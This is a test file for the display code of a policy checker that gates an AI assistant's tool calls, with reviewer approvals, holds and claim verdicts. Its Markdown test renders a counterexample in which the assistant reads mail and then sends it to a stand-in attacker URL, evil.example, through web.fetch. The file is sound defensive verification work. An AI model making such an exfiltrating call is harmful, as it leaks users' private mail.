import { describe, expect, test } from 'vitest';
import { factsAt } from '../../client/trace/facts.js';
import {
    annotationText,
    argumentTokens,
    callText,
    decidedText,
    durationText,
    placeText,
    ruleText
} from '../../server/wording/format.js';
import { sessionContent } from '../../server/wording/session-content.js';
import { basisText, sessionMarkdown } from '../../server/wording/session-markdown.js';
import { claimTone, claimWord, policySummary, policyTone } from '../../server/wording/verdicts.js';
import type { PolicyResult, VerdictWord } from '../../server/checker/results/result.js';
import {
    approved,
    at,
    basis,
    counterexample,
    expectedClaim,
    outsideClaim,
    repairedResult,
    result,
    uri,
    violatedClaim
} from './fixtures/results.js';

describe('format', () => {
    test.each([
        [{}, 'a.b()'],
        [{ folder: 'in"box' }, 'a.b(folder: "in\\"box")'],
        [{ n: -1.5, ok: true, no: null }, 'a.b(n: -1.5, ok: true, no: null)'],
        [
            { 'x-id': ['a', [1]], body: { text: 'x', 'a b': {} } },
            'a.b(`x-id`: ["a", [1]], body: {text: "x", `a b`: {}})'
        ]
    ])('a call with %j', (args, text) => {
        expect(callText({ kind: 'call', tool: 'a.b', args })).toBe(text);
    });

    test.each([
        [{ name: 'own', values: [] }, '@own'],
        [{ name: 'severity', values: ['high'] }, '@severity(high)'],
        [{ name: 'owasp', values: ['ASI02', 'a "b"'] }, '@owasp(ASI02, "a \\"b\\"")']
    ])('an annotation %j', (annotation, text) => {
        expect(annotationText(annotation)).toBe(text);
    });

    test('the parts of an argument are distinguished', () => {
        expect(argumentTokens({ limit: 3 })).toEqual([
            { kind: 'name', text: 'limit' },
            { kind: 'plain', text: ': ' },
            { kind: 'number', text: '3' }
        ]);
    });

    test.each([
        [0, '0s'],
        [59, '59s'],
        [900, '15m'],
        [5400, '1h 30m'],
        [90_061, '1d 1h 1m 1s']
    ])('%d seconds', (seconds, text) => {
        expect(durationText(seconds)).toBe(text);
    });

    test('the reason of a rule is not repeated', () => {
        const rule = { source: at(1), text: 'deny a.b when c == "because" because "it \\"leaks\\""' };
        expect(ruleText(rule)).toBe(rule.text);
        expect(ruleText({ ...rule, because: 'it "leaks"' })).toBe('deny a.b when c == "because"');
    });

    test('a place is a file and a line, counted as in editors', () => {
        expect(placeText(at(8))).toBe('mail.guardrail:9');
        expect(placeText({ ...at(0), uri: 'file:///a/b%20c.guardrail' })).toBe('b c.guardrail:1');
        expect(placeText({ ...at(0), uri: 'file:///a/100%.guardrail' })).toBe('100%.guardrail:1');
        expect(placeText({ ...at(0), uri: 'untitled:Untitled-1' })).toBe('Untitled-1:1');
    });

    test.each([
        [{ by: 'default' }, 'No rule allows it.'],
        [{ by: 'inventory' }, 'It does not fit the inventory.'],
        [{ by: 'unknown' }, 'since a condition is unknown, by'],
        [{ by: 'rule' }, 'by'],
        [{ kind: 'approve', rules: [] }, ''],
        [{ kind: 'event', rules: [] }, '']
    ] as const)('decided %j', (part, text) => {
        expect(decidedText({ ...counterexample.steps[0]!, ...part })).toBe(text);
    });
});

test('facts: new ones come first, removed ones last', () => {
    expect(factsAt(approved, 0)).toEqual([]);
    expect(factsAt(approved, 2)).toEqual([
        { text: 'web.post is held for reviewer', state: 'new' },
        { text: 'assistant carries private', state: 'kept' },
        { text: 'once mail.read', state: 'kept' },
        { text: 'assistant carries untrusted', state: 'gone' }
    ]);
});

describe('Markdown', () => {
    const done = { uri, version: 1, state: 'done', result } as const;

    test('of a counterexample', () => {
        const markdown = sessionMarkdown(sessionContent({ uri, kind: 'claim', name: violatedClaim.name }, done));
        expect(markdown).toBe(
            `### mail leaves only through a person

**violated** · claim of policy \`MailAssistant\`

\`\`\`guardrail
never external tools after mail.read unless approved by reviewer
\`\`\`

web.fetch is released after mail.read, and reviewer did not approve it.

1. assistant calls \`mail.read(folder: "inbox")\` → **allowed**
   - by \`allow assistant: mail.read, mail.draft, web.fetch, web.post\` (mail.guardrail:9)
   - + assistant carries private
   - + assistant carries untrusted
   - + once mail.read
   - *needed: without this step, the claim would not be broken*
2. assistant calls \`web.fetch(url: "https://evil.example/?q=the+mail")\` → **allowed**
   - by \`allow assistant: mail.read, mail.draft, web.fetch, web.post\` (mail.guardrail:9)
   - *the claim judges this step*

<sub>3 states, 7 transitions, 12 ms</sub>
`
        );
    });

    test('of holds, approvals, changes, times and backquoted names', () => {
        const scenario = sessionContent({ uri, kind: 'scenario', name: result.scenarios[0]!.name }, done);
        const lines = sessionMarkdown(scenario).split('\n');
        expect(lines).toContain(
            '   - by `require approval by reviewer for web.post when carries private` (mail.guardrail:10): mail may leave only through a person'
        );
        expect(lines).toContain('   - ± web.post: held → approved');
        expect(lines).toContain('   - − web.post is held for reviewer');
        expect(lines).toContainEqual(expect.stringMatching(/^3\. reviewer approves .* → \*\*approved\*\* at 15m$/));
        expect(lines).toContain('5. assistant calls `` shell.`run-now`() `` → **denied** at 1h 30m');
        expect(lines).toContain('   - No rule allows it.');
    });

    test('of initial values and of the clock', () => {
        const clock = { date: '2026-01-10', second: 36_000, text: 'sat 2026-01-10 10:00' };
        const trace = {
            ...counterexample,
            start: { constants: { user: 'x' }, text: 'with user: "x"' },
            steps: counterexample.steps.map((step) => ({ ...step, time: 60, clock }))
        };
        const done = {
            uri,
            version: 1,
            state: 'done',
            result: { ...result, claims: [{ ...violatedClaim, trace }] }
        } as const;
        const markdown = sessionMarkdown(sessionContent({ uri, kind: 'claim', name: violatedClaim.name }, done));
        expect(markdown).toContain('\nThe session starts `with user: "x"`.\n\n1. ');
        expect(markdown).toContain(' at 1m, on sat 2026-01-10 10:00\n');
    });

    test('of outside events, and of annotations', () => {
        const content = sessionContent(
            { uri, kind: 'claim', name: outsideClaim.name },
            { ...done, result: { ...result, claims: [outsideClaim] } }
        );
        expect(sessionMarkdown(content)).toContain(`\`\`\`guardrail
@severity(high)
@owasp(ASI02, "b c")
never web.fetch after ci.passed
\`\`\`

assistant can call web.fetch after ci.passed.

1. \`ci.passed\` happens at 1m
   - + once ci.passed
   - *needed: without this step, the claim would not be broken; lets through: `);
    });
});

test('the basis of a verdict', () => {
    expect(basisText(basis)).toBe('1,204 states, 3,411 transitions, 12 ms');
    expect(basisText({ ...basis, states: 1, depth: 1, milliseconds: 0.4 })).toBe(
        '1 state, 3,411 transitions, under 1 ms'
    );
});

describe('verdicts', () => {
    test.each<[VerdictWord, string]>([
        ['holds', 'good'],
        ['witnessed', 'good'],
        ['violated', 'bad'],
        ['impossible', 'bad'],
        ['holds in scope', 'partial'],
        ['not witnessed in scope', 'warn'],
        ['vacuous', 'warn'],
        ['undecided', 'warn']
    ])('%s is %s', (verdict, tone) => {
        expect(claimTone({ verdict, saysNothing: false, expected: false })).toBe(tone);
        expect(claimTone({ verdict, saysNothing: true, expected: false })).not.toBe('good');
    });

    test('vacuous is good if it is expected', () => {
        expect(claimTone(expectedClaim)).toBe('good');
        expect(claimWord(expectedClaim)).toBe('vacuous, as expected');
        expect(claimWord({ ...expectedClaim, expected: false })).toBe('vacuous');
    });

    const expecting = (...claims: PolicyResult['claims']): PolicyResult => ({ ...repairedResult, claims });
    const withVerdicts = (...verdicts: VerdictWord[]) => ({
        ...repairedResult,
        claims: verdicts.map((verdict) => ({ ...repairedResult.claims[0]!, verdict }))
    });
    const failed = [{ ...result.scenarios[0]!, passed: false }];

    test.each([
        [withVerdicts('violated', 'holds'), 'bad', '1 of 2 claims violated'],
        [withVerdicts('violated', 'impossible'), 'bad', '2 claims violated'],
        [withVerdicts('impossible'), 'bad', '1 claim impossible'],
        [withVerdicts('holds', 'witnessed'), 'good', '2 claims hold'],
        [
            expecting({ ...expectedClaim, verdict: 'violated' }, ...withVerdicts('holds').claims),
            'partial',
            '1 of 2 claims violated, as expected'
        ],
        [withVerdicts('holds'), 'good', '1 claim holds'],
        [withVerdicts('holds', 'vacuous'), 'warn', '1 of 2 claims vacuous'],
        [expecting(expectedClaim), 'good', '1 claim vacuous, as expected'],
        [expecting(...repairedResult.claims, expectedClaim), 'good', '1 claim holds, 1 vacuous'],
        [withVerdicts('undecided', 'vacuous'), 'warn', '2 claims undecided'],
        [{ ...withVerdicts('holds'), scenarios: failed }, 'bad', '1 scenario failed'],
        [{ ...withVerdicts(), scenarios: result.scenarios }, 'good', '1 scenario passed'],
        [{ ...withVerdicts(), scenarios: [] }, 'good', 'no claims'],
        [{ ...withVerdicts('holds'), findings: result.findings }, 'warn', '1 claim holds'],
        [
            { ...withVerdicts('holds'), findings: [{ ...result.findings[0]!, severity: 'error' as const }] },
            'bad',
            '1 finding'
        ]
    ])('the summary of a policy (%#)', (of, tone, summary) => {
        expect(policyTone(of)).toBe(tone);
        expect(policySummary(of)).toBe(summary);
    });
});
